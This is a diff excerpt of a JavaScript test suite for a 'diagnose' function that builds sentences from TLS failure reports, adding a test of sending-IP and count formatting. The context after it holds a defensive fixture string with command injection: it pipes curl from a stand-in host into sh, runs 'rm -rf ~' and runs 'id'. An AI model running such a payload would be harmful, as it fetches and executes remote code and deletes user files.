@@ -91,6 +91,22 @@ describe('diagnose', () => {
     expect(fetch.reasonCode).toMatchObject({ cause: 'policy-http-404' });
   });
 
+  it('names the sending IPs the reports named, however many, and formats counts as the tables do', () => {
+    const several = { sendingMtaIp: null, sendingIps: { count: 8, top: ['209.85.220.41', '209.85.220.42'] } };
+    const d = diagnose(detail({ ...several, failedSessionCount: 9740 }), {
+      policyDomain: 'example.com',
+      organization: '2 reporters',
+    });
+    expect(d.sentence).toBe(
+      '2 reporters reported 9,740 failed sessions at mx2.example.com (198.51.100.7) from 8 sending IPs (most: 209.85.220.41, 209.85.220.42): certificate not trusted.',
+    );
+    const none = diagnose(detail({ sendingMtaIp: null, sendingIps: { count: 0, top: [] } }), {
+      policyDomain: 'example.com',
+      organization: 'Microsoft Corporation',
+    });
+    expect(none.sentence).not.toMatch(/ from /);
+  });
+
   it('never puts a hostile value into a command, and keeps an unknown result type as it came', () => {
     const evil = '$(curl evil.example|sh); rm -rf ~ `id`';
     const d = diagnose(
